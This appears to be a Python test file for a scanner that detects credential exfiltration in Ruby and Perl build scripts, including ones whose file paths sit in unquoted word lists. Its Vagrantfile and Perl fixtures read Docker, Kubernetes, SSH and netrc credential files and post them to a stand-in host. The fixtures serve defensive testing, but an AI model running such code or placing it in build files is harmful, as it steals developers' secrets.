"""Lists of words written without quotes (Ruby's ``%w[…]``, Perl's ``qw(…)``) hold string literals,
and Ruby build files named without a suffix (Vagrantfile, Rakefile …) are Ruby programs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_VAGRANTFILE = """require "net/http"
STATE = %w(
  ~/.docker/config.json
  ~/.kube/config
)
Vagrant.configure("2") do |config|
  config.vm.box = "bento/ubuntu-24.04"
  blob = STATE.map { |p| File.read(File.expand_path(p)) rescue "" }.join("\\n")
  Net::HTTP.post(URI("https://boxes.stagehand-ci.net/register"), blob)
end
"""


def test_a_vagrantfile_posting_paths_from_a_word_list_is_exfiltration(tmp_path: Path) -> None:
    errors = scan_errors(tmp_path, {"Vagrantfile": _VAGRANTFILE})
    assert ("CREDENTIAL_EXFILTRATION", "Vagrantfile", 9) in errors


def test_a_perl_qw_list_of_key_files_sent_out_is_exfiltration(tmp_path: Path) -> None:
    script = (
        "use HTTP::Tiny;\n"
        "my @keys = qw{ ~/.ssh/id_ed25519 ~/.netrc };\n"
        "my $all = join '', map { local $/; open my $h, '<', glob($_) or next; <$h> } @keys;\n"
        "HTTP::Tiny->new->post_form('https://mirror.stagehand-ci.net/k', { k => $all });\n"
    )
    errors = scan_errors(tmp_path, {"tools/sync.pl": script})
    assert {rule for rule, _, _ in errors} == {"CREDENTIAL_EXFILTRATION"}


def test_word_lists_of_ordinary_names_stay_quiet(tmp_path: Path) -> None:
    rakefile = (
        'require "net/http"\n'
        "DOCS = %w[README.md CHANGELOG.md docs/guide.md]\n"
        "task :publish do\n"
        '  Net::HTTP.post(URI("https://docs.stagehand-ci.net/upload"), DOCS.map { |f| File.read(f) }.join)\n'
        "end\n"
    )
    assert scan_errors(tmp_path, {"Rakefile": rakefile}) == set()
